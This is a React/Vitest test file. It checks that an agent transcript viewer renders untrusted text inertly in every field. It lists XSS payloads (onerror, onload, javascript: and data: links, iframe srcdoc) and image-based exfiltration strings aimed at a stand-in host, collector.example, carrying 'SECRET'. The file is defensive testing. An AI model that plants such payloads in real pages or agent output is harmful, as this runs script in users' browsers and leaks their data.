import { createTranscriptStore } from '@callboard/core';
import type { TranscriptStore } from '@callboard/core';
import { createEventBuilder } from '@callboard/core/testing';
import { act, render, screen } from '@testing-library/react';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { loadParts } from '../../test/load-parts.ts';
import { Transcript } from './transcript.tsx';

const requests: string[] = [];

beforeAll(loadParts, 30_000);

beforeEach(() => {
  requests.length = 0;
  vi.stubGlobal('fetch', (url: unknown) => void requests.push(String(url)));
  vi.stubGlobal('alert', () => requests.push('alert'));
  vi.spyOn(XMLHttpRequest.prototype, 'open').mockImplementation(
    (_: string, url: string | URL) => void requests.push(String(url)),
  );
  vi.spyOn(HTMLImageElement.prototype, 'src', 'set').mockImplementation((url) => void requests.push(url));
});

afterEach(() => {
  vi.unstubAllGlobals();
});

/** A transcript in which every text of every kind of thing is the attack. */
function attacked(text: string): TranscriptStore {
  const store = createTranscriptStore({ flush: 'sync' });
  const b = createEventBuilder();
  b.runStart({ title: text, model: text });
  b.user('u1', text);
  b.event({ type: 'plan.set', title: text, items: [{ text, status: 'in-progress' }] });
  b.think('m1', text);
  b.tool('t1', text, {
    messageId: 'm1',
    title: text,
    server: text,
    kind: text,
    input: { command: text, [text]: text },
  });
  b.progress('t1', 3, 10, text);
  b.tool('t2', text, { messageId: 'm1', input: text });
  b.fail('t2', text, { output: text });
  b.tool('t3', text, { messageId: 'm1', input: [text] });
  b.ok('t3', {
    content: [
      { type: 'text', text },
      { type: 'image', data: text, mimeType: text },
    ],
  });
  b.tool('s1', 'delegate', { messageId: 'm1', input: {} });
  b.agent('a1', { spawnToolCallId: 's1', name: text, task: text, model: text });
  b.in({ agentId: 'a1' }).text('n1', text);
  b.tool('s2', 'delegate', { messageId: 'm1', input: {} });
  b.agent('a2', { spawnToolCallId: 's2', name: text, task: text });
  b.agentEnd('a2', 'failed', { error: text });
  b.ask('p1', {
    toolCallId: 't1',
    title: text,
    prompt: text,
    options: [{ id: 'a', label: text, role: 'allow' }],
  });
  b.event({ type: 'notice', noticeId: 'n', level: 'error', message: text, error: text });
  for (const kind of ['refusal', 'file', 'source', 'data', 'custom'] as const)
    b.event({
      type: 'block.set',
      messageId: 'm1',
      blockId: kind,
      kind,
      text,
      value: { url: text, title: text, filename: text, mediaType: text },
    });
  b.text('m1', text);
  b.in({ runId: 'r0' }).event({ type: 'run.end', outcome: 'failed', error: text, scope: { runId: 'r0' } });
  store.dispatch(b.events);
  return store;
}

/** Shows it all, opened, and gives the page. */
function show(text: string): HTMLElement {
  const { container } = render(
    <Transcript store={attacked(text)} thinking="open" onAnswer={() => {}} onRetry={() => {}} />,
  );
  for (const closed of screen.queryAllByRole('button', { expanded: false }))
    if (closed.getAttribute('aria-haspopup') !== 'dialog') act(() => closed.click());
  return container;
}

function expectInert(page: HTMLElement): void {
  expect(requests).toEqual([]);
  expect(
    page.querySelectorAll('script, iframe, object, embed, img, style, link, base, form[action], svg[onload]'),
  ).toHaveLength(0);
  for (const link of page.querySelectorAll('a')) expect(link.protocol).toMatch(/^(?:https?|mailto):$/);
  const reaches = [
    'href',
    'src',
    'srcset',
    'srcdoc',
    'action',
    'formaction',
    'xlink:href',
    'style',
    'poster',
    'data',
  ];
  for (const element of page.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on/);
      const bad = reaches.includes(name) && /javascript:|data:text|url\(|expression\(/i.test(value);
      expect([name, value, bad]).toEqual([name, value, false]);
    }
  }
}

describe('fault 30: outside text is text, wherever it comes in', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '[a](javascript:alert(1))',
    '[a](JaVa\tScRiPt:alert(1))',
    '[a](data:text/html,<script>1</script>)',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<style>*{display:none}</style>',
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    '<javascript:alert(1)>',
    '```js" onmouseover="alert(1)\nx\n```',
  ])('%s', (attack) => {
    const page = show(attack);
    expectInert(page);
    const word = /alert\(1\)|display:none|1<\/script>/.exec(attack)?.[0] ?? '';
    expect(page).toHaveTextContent(word);
  });
});

describe('fault 86: nothing is fetched by being drawn', () => {
  it.each([
    '![p](https://collector.example/p.png?q=SECRET)',
    '![p][1]\n\n[1]: https://collector.example/p.png?q=SECRET',
    '<img src="https://collector.example/p.png?q=SECRET">',
    '<div style="background:url(https://collector.example/p.png?q=SECRET)">x</div>',
    '<picture><source srcset="https://collector.example/p.png?q=SECRET"></picture>',
    '[![p](https://collector.example/p.png?q=SECRET)](https://collector.example)',
    '\u001b]1337;File=inline=1:https://collector.example/p.png?q=SECRET\u0007',
  ])('%s', (attack) => {
    const page = show(attack);
    expectInert(page);
    const reaching = [...page.querySelectorAll('[src], [srcset], [poster], [style*="url("]')];
    expect(reaching).toEqual([]);
  });
});
